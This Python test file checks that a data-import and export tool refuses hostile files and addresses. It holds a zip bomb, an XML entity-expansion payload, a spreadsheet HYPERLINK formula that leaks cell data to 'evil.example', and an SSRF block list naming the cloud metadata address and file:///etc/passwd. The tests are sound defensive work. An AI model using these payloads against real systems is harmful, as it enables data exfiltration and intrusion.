"""Files and names that mean harm: refused in a sentence, or shown as the letters they are."""

from __future__ import annotations

import io
import json
import os
import random
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench import fuzz
from data import limits
from data.city import checks, pack
from data.connectors import http_cache
from data.errors import SourceError
from data.store import exchange, register
from tests.data.test_register import ROW

INPUTS = int(os.environ.get("ZONE_INPUTS", "60"))


@pytest.mark.parametrize("reader", fuzz.READERS)
def test_seeds_raise_our_own_errors_only(reader: str) -> None:
    for seed in fuzz.READERS[reader][1]:
        fuzz.tried(reader, seed)


@pytest.mark.parametrize("reader", fuzz.READERS)
@settings(max_examples=INPUTS, suppress_health_check=list(HealthCheck))
@given(number=st.integers(0, 2**32), noise=st.one_of(st.none(), st.binary(max_size=300)))
def test_mutated_files_raise_our_own_errors_only(reader: str, number: int, noise: bytes | None) -> None:
    dice = random.Random(number)
    fuzz.tried(reader, fuzz.mutated(dice, dice.choice(fuzz.READERS[reader][1])) if noise is None else noise)


def test_a_million_columns_and_a_bomb_are_refused_before_they_are_read() -> None:
    with pytest.raises(SourceError, match="1,000,001 columns"):
        exchange.read(b"," * 1_000_000 + b"\n", "a.csv")
    with pytest.raises(SourceError, match="at most 20,000,000"):
        exchange.read(b"x" * 20_000_001, "a.csv")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)
    with pytest.raises(SourceError, match="unpacks to 50,000,000 bytes"):
        exchange.read(out.getvalue(), "a.xlsx")
    assert limits.MAX_UNPACKED >= 50_000_000  # it was the ratio that refused it


def test_entities_of_a_workbook_are_not_expanded() -> None:
    bomb = b'<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><workbook>&b;</workbook>'
    source = io.BytesIO()
    pd.DataFrame([{"name": "x"}]).to_excel(source, index=False)
    out = io.BytesIO()
    with zipfile.ZipFile(source) as whole, zipfile.ZipFile(out, "w") as archive:
        for member in whole.infolist():
            archive.writestr(member, bomb if member.filename == "xl/workbook.xml" else whole.read(member.filename))
    with pytest.raises(SourceError, match="cannot be read"):
        exchange.read(out.getvalue(), "a.xlsx")
    assert openpyxl.DEFUSEDXML


def test_formulas_stay_text_in_every_export_and_come_back_as_they_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ZONE_DATABASE", f"sqlite:///{tmp_path / 'zone.db'}")
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    register.add({**ROW, "name": evil, "about": "@SUM(1)", "funding": "-2+3", "target_group": "+1"}, "ann")
    rows = register.everything()
    book = openpyxl.load_workbook(io.BytesIO(exchange.export(rows, "xlsx")))
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
    assert "f" not in kinds
    text = exchange.export(rows, "csv").decode("utf-8-sig").splitlines()[1]
    assert text.startswith("\"'=HYPERLINK")
    for kind in exchange.KINDS:
        back = register.check(exchange.read(exchange.export(rows, kind), f"a.{kind}")[0])
        assert (back["name"], back["about"], back["funding"], back["target_group"]) == (evil, "@SUM(1)", "-2+3", "+1")


def test_geometry_that_is_huge_crossed_or_nowhere_is_named(tmp_path: Path) -> None:
    many = [[10 + 0.001 * (number % 1000), 60 + 0.0001 * (number // 1000)] for number in range(200_000)]
    cases = {
        "crossed": [[24.0, 60.0], [25.0, 61.0], [25.0, 60.0], [24.0, 61.0], [24.0, 60.0]],
        "infinite": [[24.0, 60.0], [1e308, 60.0], [24.0, 61.0], [24.0, 60.0]],
        "huge": [*many, many[0]],
    }
    for name, ring in cases.items():
        folder = tmp_path / name
        folder.mkdir()
        for file, text in pack.template("Town").items():
            (folder / file).write_text(text, encoding="utf-8")
        shapes = json.loads((folder / "areas.geojson").read_text(encoding="utf-8"))
        shapes["features"][0]["geometry"] = {"type": "Polygon", "coordinates": [ring]}
        (folder / "areas.geojson").write_text(json.dumps(shapes), encoding="utf-8")
        findings = checks.check(folder).findings
        assert any("areas" in finding.file for finding in findings), name


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest/meta-data",
        "https://localhost/",
        "https://api.unhcr.org@evil.example/",
        "https://api.unhcr.org.evil.example/",
        "file:///etc/passwd",
        "https://api.unhcr.org:8443/",
        "ftp://ec.europa.eu/",
    ],
)
def test_only_addresses_on_the_list_are_asked(address: str) -> None:
    with pytest.raises(SourceError):
        http_cache.check_host(address)
